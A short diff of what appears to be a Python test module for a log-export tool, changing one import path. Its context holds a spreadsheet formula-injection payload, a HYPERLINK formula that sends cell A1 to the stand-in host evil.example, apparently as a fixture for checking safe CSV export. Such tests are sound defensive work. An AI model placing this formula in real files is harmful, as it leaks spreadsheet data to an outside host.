@@ -16,7 +16,7 @@ from semmap_log.exporting.log_files import export
 from semmap_log.formats import csv_blocks
 from semmap_log.formats.csv_text import harmless, meant
 from semmap_log.formats.door_csv import read_door_csv
-from semmap_log.importing import import_file
+from semmap_log.importing.importing import import_file
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 NAMES = [
